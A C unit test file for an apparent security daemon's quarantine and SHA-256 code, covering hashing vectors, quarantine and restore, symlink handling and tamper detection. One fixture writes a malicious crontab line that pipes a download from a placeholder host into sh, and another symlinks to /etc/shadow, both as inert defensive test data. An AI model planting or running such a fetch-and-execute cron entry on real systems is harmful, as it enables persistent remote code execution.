/* SPDX-License-Identifier: GPL-2.0-only */
/* The quarantine (daemon/quarantine.c) and SHA-256 (arr/sha256.c), in temporary directories. */
#include <check.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "zhijia/sha256.h"
#include "../../daemon/quarantine.h"

static char root[64];

static void setup(void)
{
	snprintf(root, sizeof(root), "/tmp/zj-quarantine-test-XXXXXX");
	ck_assert_ptr_nonnull(mkdtemp(root));
}

static void rm_rf(const char *path)
{
	char cmdpath[PATH_MAX];
	struct stat st;

	if (lstat(path, &st) < 0)
		return;
	if (S_ISDIR(st.st_mode)) {
		DIR *d = opendir(path);
		struct dirent *de;

		while (d && (de = readdir(d))) {
			if (!strcmp(de->d_name, ".") || !strcmp(de->d_name, ".."))
				continue;
			snprintf(cmdpath, sizeof(cmdpath), "%s/%s", path, de->d_name);
			rm_rf(cmdpath);
		}
		if (d)
			closedir(d);
		(void)rmdir(path);
	} else {
		(void)unlink(path);
	}
}

static void teardown(void)
{
	rm_rf(root);
}

static void write_file(const char *path, const void *data, size_t len, mode_t mode)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);

	ck_assert_int_ge(fd, 0);
	ck_assert_int_eq(write(fd, data, len), (ssize_t)len);
	ck_assert_int_eq(fchmod(fd, mode), 0);
	ck_assert_int_eq(close(fd), 0);
}

static size_t read_file(const char *path, char *buf, size_t cap)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n;

	ck_assert_int_ge(fd, 0);
	n = read(fd, buf, cap);
	ck_assert_int_ge(n, 0);
	close(fd);
	return (size_t)n;
}

/* FIPS 180-2 test vectors */
START_TEST(test_sha256_vectors)
{
	static const struct {
		const char *in;
		const char *hex;
	} v[] = {
		{"", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"},
		{"abc", "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"},
		{"abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq",
		 "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1"},
	};
	char hex[ZJ_SHA256_HEX_LEN + 1];
	uint8_t d[ZJ_SHA256_LEN];
	struct zj_sha256 s;

	for (size_t i = 0; i < sizeof(v) / sizeof(v[0]); i++) {
		zj_sha256_init(&s);
		zj_sha256_update(&s, v[i].in, strlen(v[i].in));
		zj_sha256_final(&s, d);
		zj_sha256_hex(d, hex);
		ck_assert_str_eq(hex, v[i].hex);
	}
	/* a million 'a's, fed in odd-sized pieces */
	{
		static char a[997];
		size_t left = 1000000;

		memset(a, 'a', sizeof(a));
		zj_sha256_init(&s);
		while (left) {
			size_t n = left < sizeof(a) ? left : sizeof(a);

			zj_sha256_update(&s, a, n);
			left -= n;
		}
		zj_sha256_final(&s, d);
		zj_sha256_hex(d, hex);
		ck_assert_str_eq(hex, "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0");
	}
}
END_TEST

START_TEST(test_put_list_restore)
{
	char qdir[128], path[128], id[ZJ_QUARANTINE_ID_MAX], buf[256];
	static const char content[] = "* * * * * root curl http://x | sh\n";
	struct zj_quarantine *q = NULL;
	struct zj_quarantine_item *items = NULL;
	size_t n = 0;
	struct stat st;

	snprintf(qdir, sizeof(qdir), "%s/q", root);
	snprintf(path, sizeof(path), "%s/evil", root);
	write_file(path, content, sizeof(content) - 1, 0640);
	ck_assert_int_eq(zj_quarantine_open(qdir, &q), 0);
	ck_assert_int_eq(stat(qdir, &st), 0);
	ck_assert_uint_eq(st.st_mode & 0777, 0700);

	ck_assert_int_eq(zj_quarantine_put(q, path, "T1053.003 blocked", true, id), 0);
	ck_assert_int_eq(access(path, F_OK), -1); /* removed */

	ck_assert_int_eq(zj_quarantine_list(q, &items, &n), 0);
	ck_assert_uint_eq(n, 1);
	ck_assert_str_eq(items[0].id, id);
	ck_assert_str_eq(items[0].path, path);
	ck_assert_str_eq(items[0].reason, "T1053.003 blocked");
	ck_assert(!items[0].symlink);
	ck_assert_uint_eq(items[0].size, sizeof(content) - 1);
	ck_assert_uint_eq(items[0].mode, 0640);
	ck_assert_uint_eq(items[0].uid, getuid());
	/* sha256 of the content */
	{
		struct zj_sha256 s;
		uint8_t d[ZJ_SHA256_LEN];
		char hex[ZJ_SHA256_HEX_LEN + 1];

		zj_sha256_init(&s);
		zj_sha256_update(&s, content, sizeof(content) - 1);
		zj_sha256_final(&s, d);
		zj_sha256_hex(d, hex);
		ck_assert_str_eq(items[0].sha256, hex);
	}
	zj_quarantine_items_free(items, n);

	ck_assert_int_eq(zj_quarantine_restore(q, id, NULL, false), 0);
	ck_assert_uint_eq(read_file(path, buf, sizeof(buf)), sizeof(content) - 1);
	ck_assert(memcmp(buf, content, sizeof(content) - 1) == 0);
	ck_assert_int_eq(stat(path, &st), 0);
	ck_assert_uint_eq(st.st_mode & 07777, 0640);
	/* something is there now: never clobbered unless asked */
	ck_assert_int_eq(zj_quarantine_restore(q, id, NULL, false), -EEXIST);
	ck_assert_int_eq(zj_quarantine_restore(q, id, NULL, true), 0);
	zj_quarantine_free(q);
}
END_TEST

START_TEST(test_symlink_and_refusals)
{
	char qdir[128], link[128], dir[128], id[ZJ_QUARANTINE_ID_MAX];
	char target[PATH_MAX];
	struct zj_quarantine *q = NULL;
	struct zj_quarantine_item it;
	ssize_t n;

	snprintf(qdir, sizeof(qdir), "%s/q", root);
	snprintf(link, sizeof(link), "%s/wants-link", root);
	snprintf(dir, sizeof(dir), "%s/adir", root);
	ck_assert_int_eq(symlink("/etc/shadow", link), 0);
	ck_assert_int_eq(mkdir(dir, 0755), 0);
	ck_assert_int_eq(zj_quarantine_open(qdir, &q), 0);

	/* the link itself is kept, never what it points to */
	ck_assert_int_eq(zj_quarantine_put(q, link, "test", true, id), 0);
	ck_assert_int_eq(zj_quarantine_get(q, id, &it), 0);
	ck_assert(it.symlink);
	ck_assert_uint_eq(it.size, strlen("/etc/shadow"));
	zj_quarantine_item_clear(&it);
	ck_assert_int_eq(zj_quarantine_restore(q, id, NULL, false), 0);
	n = readlink(link, target, sizeof(target) - 1);
	ck_assert_int_eq(n, (ssize_t)strlen("/etc/shadow"));
	target[n] = '\0';
	ck_assert_str_eq(target, "/etc/shadow");

	ck_assert_int_eq(zj_quarantine_put(q, dir, "test", false, id), -EINVAL);
	ck_assert_int_eq(zj_quarantine_put(q, "/nonexistent/zj", "test", false, id), -ENOENT);
	ck_assert_int_eq(zj_quarantine_get(q, "../etc", &it), -EINVAL);
	ck_assert_int_eq(zj_quarantine_get(q, "nosuchid", &it), -ENOENT);
	zj_quarantine_free(q);
}
END_TEST

/* Stored content that no longer matches its hash is not restored. */
START_TEST(test_tampered_content)
{
	char qdir[128], path[128], id[ZJ_QUARANTINE_ID_MAX], z[256];
	struct zj_quarantine *q = NULL;
	static char big[200000];

	for (size_t i = 0; i < sizeof(big); i++)
		big[i] = (char)(i * 7 + i / 13);
	snprintf(qdir, sizeof(qdir), "%s/q", root);
	snprintf(path, sizeof(path), "%s/big", root);
	write_file(path, big, sizeof(big), 0600);
	ck_assert_int_eq(zj_quarantine_open(qdir, &q), 0);
	ck_assert_int_eq(zj_quarantine_put(q, path, "test", true, id), 0);
	/* another item's stream in its place: valid zlib, wrong content */
	{
		char other[128], oid[ZJ_QUARANTINE_ID_MAX], oz[256];

		snprintf(other, sizeof(other), "%s/other", root);
		write_file(other, "x", 1, 0600);
		ck_assert_int_eq(zj_quarantine_put(q, other, "test", true, oid), 0);
		snprintf(oz, sizeof(oz), "%s/%s.z", qdir, oid);
		snprintf(z, sizeof(z), "%s/%s.z", qdir, id);
		ck_assert_int_eq(rename(oz, z), 0);
	}
	ck_assert_int_eq(zj_quarantine_restore(q, id, NULL, false), -EBADMSG);
	ck_assert_int_eq(access(path, F_OK), -1); /* nothing half-restored */
	/* garbage */
	write_file(z, "not zlib", 8, 0600);
	ck_assert_int_eq(zj_quarantine_restore(q, id, NULL, false), -EBADMSG);
	ck_assert_int_eq(access(path, F_OK), -1);
	zj_quarantine_free(q);
}
END_TEST

/* Torn items (a .z without .json, stray temporaries, foreign files) are not listed. */
START_TEST(test_torn_items_ignored)
{
	char qdir[128], p[256];
	struct zj_quarantine *q = NULL;
	struct zj_quarantine_item *items = NULL;
	size_t n = 1;

	snprintf(qdir, sizeof(qdir), "%s/q", root);
	ck_assert_int_eq(zj_quarantine_open(qdir, &q), 0);
	snprintf(p, sizeof(p), "%s/x.z", qdir);
	write_file(p, "z", 1, 0600);
	snprintf(p, sizeof(p), "%s/y.json.tmp", qdir);
	write_file(p, "{", 1, 0600);
	snprintf(p, sizeof(p), "%s/z.json", qdir);
	write_file(p, "{\"id\":\"other\"}", 14, 0600);
	ck_assert_int_eq(zj_quarantine_list(q, &items, &n), 0);
	ck_assert_uint_eq(n, 0);
	zj_quarantine_items_free(items, n);
	zj_quarantine_free(q);
}
END_TEST

static Suite *suite(void)
{
	Suite *s = suite_create("quarantine");
	TCase *tc = tcase_create("core");

	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, test_sha256_vectors);
	tcase_add_test(tc, test_put_list_restore);
	tcase_add_test(tc, test_symlink_and_refusals);
	tcase_add_test(tc, test_tampered_content);
	tcase_add_test(tc, test_torn_items_ignored);
	suite_add_tcase(s, tc);
	return s;
}

int main(void)
{
	SRunner *sr = srunner_create(suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
